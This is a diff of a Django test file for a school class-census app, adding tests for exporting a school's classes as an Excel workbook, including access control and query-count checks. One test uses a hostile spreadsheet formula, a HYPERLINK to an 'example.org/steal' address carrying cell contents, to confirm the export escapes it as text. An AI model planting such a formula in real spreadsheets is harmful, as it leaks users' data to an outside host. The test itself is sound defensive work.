@@ -1,13 +1,21 @@
-"""A school's class census: Alice may read and correct her school's, nobody else's."""
+"""A school's class census: Alice may read, download and correct her school's, nobody
+else's."""
 
 from __future__ import annotations
 
+import io
+import re
+
+import openpyxl
 import pytest
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
 
 from eduplan.construction.models import SchoolClass
 from eduplan.construction.selectors import class_census_summary
 from eduplan.construction.services import school_class_set_pupils
 from eduplan.core.errors import InputError
+from eduplan.org.models import OrgUnit
 
 
 @pytest.fixture
@@ -111,3 +119,79 @@ def test_the_service_itself_refuses_out_of_range_and_out_of_scope(city, classes)
         school_class_set_pupils(
             user=city.users["alice"], school_class=classes["410105-P2/2016/1"], pupils=40
         )
+
+
+# The class list as a workbook --------------------------------------------------------
+
+HOSTILE = '=HYPERLINK("http://example.org/steal?"&A1,"点击查看")'
+
+
+def _workbook(response):  # type: ignore[no-untyped-def]
+    assert response.status_code == 200, response.status_code
+    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
+    return openpyxl.load_workbook(io.BytesIO(response.content)).active
+
+
+def test_bob_downloads_a_schools_classes_as_the_page_lists_them(client, city, classes):
+    client.force_login(city.users["bob"])
+    url = "/units/410105-P1/classes/"
+    sheet = _workbook(client.get(url, {"export": "classes"}))
+    assert sheet["A1"].value == "金水一小 · 班级 · 2016"
+    rows = list(sheet.iter_rows(min_row=3, values_only=True))
+    assert rows == [(1, 1, 45), (1, 2, 58)]  # numbers, not text
+    page = client.get(url).content.decode()
+    listed = re.findall(r'<tr><td>(\d+)</td><td>(\d+)</td><td class="num">(\d+)</td>', page)
+    assert [tuple(int(v) for v in row) for row in listed] == rows
+    assert 'href="?export=classes" download' in page
+
+
+@pytest.mark.parametrize(
+    ("who", "school", "status"),
+    [
+        ("alice", "410105-P1", 200),
+        ("alice", "410105-P2", 403),
+        ("charlie", "410105-P1", 403),
+        ("dora", "410105-P1", 403),
+        ("bob", "410103-P1", 403),
+        ("dora", "410103-P1", 200),
+    ],
+)
+def test_the_class_download_is_refused_where_the_page_is(
+    client, city, classes, who, school, status
+):
+    client.force_login(city.users[who])
+    assert client.get(f"/units/{school}/classes/", {"export": "classes"}).status_code == status
+
+
+def test_a_school_name_typed_as_a_formula_comes_out_as_text(client, city, classes):
+    OrgUnit.objects.filter(pk=city.erqi_one.pk).update(name=HOSTILE)
+    client.force_login(city.users["charlie"])
+    sheet = _workbook(client.get("/units/410103-P1/classes/", {"export": "classes"}))
+    title = sheet["A1"]
+    assert title.value.startswith(HOSTILE) and title.data_type == "s" and title.quotePrefix
+    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
+
+
+def test_a_table_the_class_list_does_not_have_is_not_found(client, city, classes):
+    client.force_login(city.users["alice"])
+    assert client.get("/units/410105-P1/classes/", {"export": "orders"}).status_code == 404
+
+
+@pytest.mark.parametrize("export", [{}, {"export": "classes"}], ids=["page", "download"])
+def test_the_class_list_makes_no_more_queries_for_many_classes_than_for_two(
+    client, city, classes, export, django_assert_max_num_queries
+):
+    client.force_login(city.users["alice"])
+    url = "/units/410105-P1/classes/"
+    with CaptureQueriesContext(connection) as two:
+        assert client.get(url, export).status_code == 200
+    SchoolClass.objects.bulk_create(
+        SchoolClass(school=city.jinshui_one, school_year=2016, grade=2, number=n, pupils=40)
+        for n in range(1, 11)
+    )
+    with django_assert_max_num_queries(len(two.captured_queries)):
+        response = client.get(url, export)
+    if export:
+        assert _workbook(response).max_row == 2 + 12
+    else:
+        assert response.content.decode().count('<td class="num">') == 12
